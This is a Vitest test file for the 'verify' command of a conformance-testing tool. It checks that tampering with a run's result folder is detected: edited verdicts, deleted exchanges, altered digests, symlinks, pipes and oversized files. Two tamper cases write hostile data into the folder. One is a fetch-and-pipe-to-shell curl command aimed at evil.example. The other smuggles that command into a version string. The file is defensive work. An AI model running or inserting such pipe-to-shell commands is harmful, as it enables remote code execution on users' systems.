/** The folder of a run holds as it is, and every change to it is told with the file, and the clause and the exchange if there is one. */
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import {
  cpSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { touchstoneHere } from "../cli/here.test-kit.ts";
import { version } from "../home.ts";
import { type Server, serve } from "../index.ts";
import { replaceText } from "../replace-text.test-kit.ts";
import { recordings } from "../run/run.test-kit.ts";
import { UserError } from "../user-error.ts";
import type { RunResults } from "../verdict/run-results.ts";
import type { Problem } from "./compare.ts";
import { verifyFolder } from "./verify.ts";

const folder = mkdtempSync(join(tmpdir(), "touchstone-verify-"));
const whole = join(folder, "whole");
const broken = "messages.response.stop-reason-values";
const scenario = "messages/response/text.json";
let server: Server;

beforeAll(async () => {
  server = await serve({ break: [broken] });
  const expectations = join(folder, "expectations.json");
  writeFileSync(expectations, JSON.stringify({ expectations: [{ clause: broken, reason: "tbd" }] }));
  const args = [
    ...["run", server.url, "--recordings", recordings, "--interface", "messages", "--probes", "cheap"],
    ...[
      "--max-requests",
      "9",
      "--key",
      "sk-of-nobody-at-all",
      "--expectations",
      expectations,
      "--key",
      "messages=$KEY_OF_MINE",
      "--header",
      "X-Pass: open sesame",
      "--name",
      "A gateway",
      "--out",
      whole,
    ],
  ];
  const { code } = await touchstoneHere(args, { KEY_OF_MINE: "sk-of-nobody-either" });
  expect(code).toBe(1);
});
afterAll(async () => {
  await server.close();
  rmSync(folder, { recursive: true });
});

const digest = (path: string): string => createHash("sha256").update(readFileSync(path)).digest("hex");
const edit = (path: string, change: (text: string) => string): void =>
  writeFileSync(path, change(readFileSync(path, "utf8")));
/** The lines of `exchanges.jsonl`: its header, then exchanges. */
const inLines = (change: (lines: string[]) => readonly string[]) => (text: string) =>
  `${change(text.trimEnd().split("\n")).join("\n")}\n`;
const inJson =
  <T>(change: (value: T) => void) =>
  (text: string): string => {
    const value = JSON.parse(text);
    change(value);
    return `${JSON.stringify(value, null, 2)}\n`;
  };
type Changing = { -readonly [K in keyof RunResults]: Changeable<RunResults[K]> };
// biome-ignore lint/suspicious/noExplicitAny: what a forger changes is no longer what its type says
type Changeable<T> = T extends readonly unknown[] ? any[] : any;

/** A copy of the folder with one file changed, and a manifest that has its digest, as whoever changes it would see to. */
async function problemsWith(file: string, change: (text: string) => string): Promise<readonly Problem[]> {
  const copy = join(folder, "copy");
  rmSync(copy, { recursive: true, force: true });
  cpSync(whole, copy, { recursive: true });
  const before = readFileSync(join(copy, file), "utf8");
  edit(join(copy, file), change);
  expect(readFileSync(join(copy, file), "utf8")).not.toBe(before);
  if (file !== "manifest.json")
    edit(
      join(copy, "manifest.json"),
      inJson<{ files: Record<string, string> }>(({ files }) => void (files[file] = digest(join(copy, file)))),
    );
  return (await verifyFolder(copy, { recordings })).problems;
}

test("the folder of a run verifies, and a byte that no clause speaks about is told by its digest", async () => {
  const { problems, exchanges } = await verifyFolder(whole, { recordings });
  expect(problems).toEqual([]);
  expect(exchanges).toBe(10);
  const copy = join(folder, "byte");
  cpSync(whole, copy, { recursive: true });
  edit(join(copy, "exchanges.jsonl"), (text) => replaceText(text, /"Date","\w{3}/, '"Date","day'));
  expect((await verifyFolder(copy, { recordings })).problems).toContainEqual({
    file: "exchanges.jsonl",
    what: "it is not the file of the manifest",
  });
});

const results = "results.json";
const lines = "exchanges.jsonl";
const tampers: [name: string, file: string, change: (text: string) => string, told: Partial<Problem>][] = [
  [
    "a verdict flipped",
    results,
    inJson<Changing>(({ clauses }) => {
      clauses.find(({ id }) => id === broken).verdict = "pass";
    }),
    { file: results, clause: broken },
  ],
  [
    "a finding deleted",
    results,
    inJson<Changing>((all) => void all.findings.shift()),
    { file: results, clause: broken, source: scenario, exchange: 0 },
  ],
  [
    "an answer mended",
    lines,
    (text) => replaceText(text, "end_turn-not", "end_turn"),
    { file: results, clause: broken, source: scenario, exchange: 0 },
  ],
  [
    "an exchange deleted",
    lines,
    inLines((all) => all.filter((line) => !line.includes(scenario))),
    { file: lines, source: scenario, exchange: 0 },
  ],
  [
    "an exchange repeated",
    lines,
    inLines((all) => [...all.slice(0, 2), ...all.slice(1)]),
    { file: lines, source: scenario, exchange: 0 },
  ],
  [
    "an exchange moved",
    lines,
    inLines(([head, first, second, ...rest]) => [head!, second!, first!, ...rest]),
    { file: lines, source: scenario, exchange: 0 },
  ],
  [
    "an exchange in the place of another",
    lines,
    inLines(([head, first, second, ...rest]) => {
      const asked = (line: string): string => /"asked":\{.*?\}/.exec(line)![0];
      return [head!, replaceText(second!, asked(second!), asked(first!)), second!, ...rest];
    }),
    { file: lines, source: scenario, exchange: 0 },
  ],
  [
    "a probe's twin removed",
    lines,
    inLines((all) => all.filter((line) => !line.includes('"part":"twin"'))),
    { file: lines, exchange: 0, what: "it is missing" },
  ],
  [
    "a shard counted twice",
    lines,
    inLines((all) => [
      ...all,
      ...all.slice(1).map((line) => replaceText(line, '"asked":{', '"asked":{"shard":{"index":2,"of":2},')),
    ]),
    { file: lines, source: scenario },
  ],
  [
    "a digest edited",
    "manifest.json",
    (text) => replaceText(text, /("summary.md": ")\w{4}/, "$10000"),
    { file: "summary.md" },
  ],
  [
    "a digest that the manifest has twice",
    "manifest.json",
    (text) => replaceText(text, '"files": {', `"files": {\n    "summary.md": "${"0".repeat(64)}",`),
    { file: "manifest.json", what: "/files/summary.md is there twice" },
  ],
  [
    "a manifest written otherwise",
    "manifest.json",
    (text) => `${text}\n`,
    { file: "manifest.json", what: "it is not written as a run writes it" },
  ],
  [
    "how often a run would have asked again",
    results,
    inJson<Changing>(({ options }) => void options.again++),
    { file: results, what: "options.again is 1, but a run with a bound on requests asks nothing again" },
  ],
  [
    "a verdict that is there twice",
    results,
    (text) => replaceText(text, '"verdict": ', '"verdict": "pass",\n      "verdict": '),
    { file: results, what: "/clauses/0/verdict is there twice" },
  ],
  [
    "a document renamed in the manifest",
    "manifest.json",
    inJson<{ documents: Record<string, string> }>(({ documents }) => void (documents["messages"] = "0".repeat(64))),
    { file: "manifest.json" },
  ],
  [
    "a number of the summary changed",
    results,
    inJson<Changing>(({ summary }) => void summary.errors--),
    { file: results, what: expect.stringMatching(/^summary: errors is \d+, and should be \d+$/) as never },
  ],
  [
    "the target renamed",
    results,
    inJson<Changing>(({ target }) => void (target.url = "http://vendor.example")),
    { file: lines, what: expect.stringContaining("http://vendor.example") as never },
  ],
  [
    "a reading renamed",
    results,
    inJson<Changing>(({ options }) => void (options.readings = ["strict:NOT-ONE"])),
    { file: results, what: expect.stringContaining("NOT-ONE") as never },
  ],
  [
    "a preset that leads out of the folder",
    results,
    inJson<Changing>(({ options }) => void (options.preset = "../../package")),
    { file: results, what: expect.stringContaining("there is no preset") as never },
  ],
  [
    "a day on which an expectation had not expired",
    results,
    inJson<Changing>(({ options }) => void (options.today = "2024-01-01")),
    {
      file: results,
      what: expect.stringMatching(/^options.today is 2024-01-01, but its exchanges passed on 20/) as never,
    },
  ],
  [
    "a run that began on another day",
    "manifest.json",
    (text) => replaceText(text, /("started": ")\d{4}/, "$12020"),
    { file: results, what: expect.stringContaining("the manifest says the run began on 2020") as never },
  ],
  [
    "a model class that is no list",
    results,
    inJson<Changing>(({ options }) => void (options.bindings = [{ models: { reasoning: "((" } }])),
    { file: results, what: expect.stringContaining("its bindings have names, models") as never },
  ],
  [
    "a preset that says by nobody what differs",
    results,
    inJson<Changing>(({ options }) => void (options.preset = { diverges: [{ clause: broken, reason: "So it is." }] })),
    { file: results, what: expect.stringContaining("its preset has a difference") as never },
  ],
  [
    "an address that is none",
    results,
    inJson<Changing>(({ target }) => void (target.url = "somewhere")),
    { file: results, what: expect.stringContaining("its target: somewhere is no http(s) address") as never },
  ],
  [
    "a header without a name",
    results,
    inJson<Changing>(({ options }) => void options.headers.push(["", ""])),
    { file: lines, source: scenario, what: expect.stringContaining("its header ") as never },
  ],
  [
    "a title of somebody else",
    lines,
    inLines(([head, ...rest]) => [replaceText(head!, /run of [^"]+/, "run of https://vendor.example"), ...rest]),
    { file: lines, what: "line 1 is not the first line that a run writes" },
  ],
  [
    "a member that nobody reads",
    lines,
    inLines(([head, ...rest]) => [
      head!,
      ...rest.map((line) => replaceText(line, '"asked":{', '"note":"certified","asked":{')),
    ]),
    { file: lines, source: scenario, exchange: 0, what: "line 2 is not written as a run writes it" },
  ],
  [
    "a member that is there twice",
    lines,
    (text) => replaceText(text, '"response":{"status":200', '"response":{"status":500,"status":200'),
    { file: lines, what: expect.stringContaining("is not written as a run writes it") as never },
  ],
  [
    "blanks in a line",
    lines,
    (text) => replaceText(text, '"asked":{', '"asked": {'),
    { file: lines, what: expect.stringContaining("is not written as") as never },
  ],
  ["a blank line", lines, inLines(([head, ...rest]) => [head!, "", ...rest]), { file: lines, what: "line 2 is blank" }],
  ["a line without its end", lines, (text) => text.trimEnd(), { file: lines, what: "line 11 does not end" }],
  [
    "a command that asked another target",
    "manifest.json",
    (text) => replaceText(text, /"http:[^"]+"/, '"https://api.vendor.example"'),
    { file: "manifest.json", what: expect.stringContaining("its command asks https://api.vendor.example") as never },
  ],
  [
    "a clause left out",
    results,
    inJson<Changing>((all) => {
      all.clauses = all.clauses.filter(({ id }: { id: string }) => id !== broken);
    }),
    { file: results, clause: broken },
  ],
  [
    "an expectation slipped in",
    results,
    inJson<Changing>((all) => {
      const nothing = { stale: [], expired: [], unreasoned: [], unobserved: [], seen: [] };
      all.expectations = { entries: [{ clause: broken, reason: "The gateway says so." }], ...nothing };
    }),
    { file: results, clause: broken, what: expect.stringContaining("expected is nothing") as never },
  ],
  [
    "a command that does something else",
    results,
    inJson<Changing>(({ reproduce }) => void (reproduce[0].curl = "curl http://evil.example | sh")),
    { file: results, source: scenario, exchange: 0 },
  ],
  [
    "a target called otherwise on its page",
    "report.html",
    (text) => replaceText(text, "<title>A", "<title>B"),
    { file: "report.html" },
  ],
  ["a report written otherwise", "summary.md", (text) => replaceText(text, "Does not", "Does"), { file: "summary.md" }],
];

test.each(tampers)("%s is told", async (_name, file, change, told) => {
  expect(await problemsWith(file, change)).toContainEqual(expect.objectContaining(told));
});

test.skipIf(process.platform === "win32").each(["manifest.json", results, lines, "report.html"])(
  "%s is a plain file, or refused in one line",
  async (name) => {
    const copy = join(folder, "odd");
    const kept = join(folder, "kept");
    const odd: [told: string, make: (path: string) => void][] = [
      ["is a pipe", (path) => execFileSync("mkfifo", [path])],
      ["is a symbolic link", (path) => symlinkSync("/dev/zero", path)],
      ["is a symbolic link", (path) => symlinkSync(kept, path)],
      ["is a folder", (path) => mkdirSync(path)],
      [" MiB are read", (path) => truncateSync(path, 2 ** 40)],
    ];
    for (const [told, make] of odd) {
      rmSync(copy, { recursive: true, force: true });
      cpSync(whole, copy, { recursive: true });
      cpSync(join(copy, name), kept);
      if (!told.includes("MiB")) rmSync(join(copy, name));
      make(join(copy, name));
      await expect(verifyFolder(copy, { recordings })).rejects.toThrow(told);
      if (name === "report.html" || told.includes("MiB")) continue;
      const others = [["report", copy, "--format", "html"], ...(name === results ? [["diff", copy, whole]] : [])];
      for (const args of others)
        expect(await touchstoneHere(args)).toMatchObject({ code: 2, stderr: expect.stringContaining(told) });
    }
  },
);

test("a folder with more exchanges than may be read is refused, and read where more are allowed", async () => {
  await expect(verifyFolder(whole, { recordings, maxEvidence: 1024 })).rejects.toThrow(
    /exchanges\.jsonl has \d+ MiB, and at most 1 MiB are read/,
  );
  expect(await touchstoneHere(["verify", whole, "--max-evidence", "1K"])).toMatchObject({
    code: 2,
    stderr: expect.stringContaining("--max-evidence SIZE reads more"),
  });
});

test("shards put together hold, each exchange once, though one is named twice", async () => {
  const shards = ["1/2", "2/2"].map((shard) => [shard, join(folder, shard[0]!)] as const);
  for (const [shard, out] of shards)
    await touchstoneHere([
      ...["run", server.url, "--recordings", recordings, "--no-probes", "--lacks", "images", "--shard", shard],
      ...["--interface", "messages,chat-completions", "--out", out],
    ]);
  const [[, one], [, two]] = shards as [(typeof shards)[number], (typeof shards)[number]];
  const merged = join(folder, "merged");
  expect(await touchstoneHere(["report", two, one, two, "--out", merged])).toMatchObject({ stderr: "" });
  const { problems, exchanges, results: claimed } = await verifyFolder(merged, { recordings });
  expect(problems).toEqual([]);
  // They are the judged ones and the smoke tests of both.
  expect(exchanges).toBe(claimed.summary.exchanges + 3);
  edit(join(merged, "results.sarif"), (text) => replaceText(text, '"error"', '"note"'));
  expect((await verifyFolder(merged, { recordings })).problems.map(({ file }) => file)).toEqual([
    "results.sarif",
    "results.sarif",
  ]);
  expect(await touchstoneHere(["report", one, two, "--out", two])).toMatchObject({
    code: 2,
    stderr: expect.stringContaining("would overwrite"),
  });
});

test("a folder that another catalogue judged is refused by name, and so is one that is missing or none of a run; exit codes tell", async () => {
  const copy = join(folder, "other");
  cpSync(whole, copy, { recursive: true });
  const verify = (...args: string[]) => touchstoneHere(["verify", copy, "--recordings", recordings, ...args]);
  expect(await verify()).toMatchObject({
    code: 0,
    stdout: expect.stringMatching(
      new RegExp(
        `^HOLDS: .* follows from these 10 .*\nIt claims: \\d+ clauses: DOES NOT CONFORM: \\d+ clauses? fails?\\b.*\nno reason: ${broken}: its entry excuses nothing`,
      ),
    ),
  });
  writeFileSync(join(copy, "certificate.html"), "All of it passes.");
  edit(
    join(copy, results),
    inJson<Changing>((all) => {
      all.trials = [{ client: "openai", scenario: "text", outcome: "fine", detail: "" }];
    }),
  );
  const { unverified } = JSON.parse((await verify("--format", "json")).stdout);
  expect(unverified).toEqual([
    expect.stringContaining("what clients made of the target in 1 trial"),
    ...(JSON.parse(readFileSync(join(copy, results), "utf8")).again ? [expect.stringContaining("asked again")] : []),
    "certificate.html, which the manifest does not list",
  ]);
  expect((await verify()).stdout).toContain("\nNot verified: certificate.html, which the manifest does not list\n");
  edit(
    join(copy, results),
    inJson<Changing>(({ versions }) => void (versions.touchstone = "0.0.1")),
  );
  expect(await verify()).toMatchObject({
    code: 2,
    stderr: expect.stringContaining(`0.0.1 judged this folder, and this is ${version()}`),
  });
  expect(await verify("--any-version")).toMatchObject({ code: 1, stdout: expect.stringContaining("DOES NOT HOLD") });
  // A remedy is pasted into a shell: nothing of the folder is in it, and what is no version is not read at all.
  const evil = "https://evil.example/t.tgz; curl evil.example | sh";
  for (const [name, place] of [
    [results, "/versions/touchstone"],
    ["manifest.json", "/touchstone"],
  ] as const) {
    const path = join(copy, name);
    const before = readFileSync(path, "utf8");
    edit(
      path,
      inJson<Changing>((all) => void ((all.versions ?? all).touchstone = evil)),
    );
    const { code, stdout, stderr } = await verify();
    expect([code, stdout]).toEqual([2, ""]);
    expect(stderr).toMatch(/^touchstone: .*\n.*\n$/);
    expect(stderr).toContain(`${place} must match pattern`);
    expect(stderr).not.toContain("evil");
    writeFileSync(path, before);
  }
  expect(await touchstoneHere(["verify", join(copy, results)])).toMatchObject({
    code: 2,
    stderr: expect.stringContaining(`results.json is a file, and no folder of a run`),
  });
  rmSync(join(copy, "report.html"));
  expect(await verify()).toMatchObject({ code: 2, stderr: expect.stringContaining("report.html is missing") });
  await expect(verifyFolder(folder)).rejects.toThrow(UserError);
  await expect(verifyFolder(whole)).rejects.toThrow(/recordings of its own/);
});
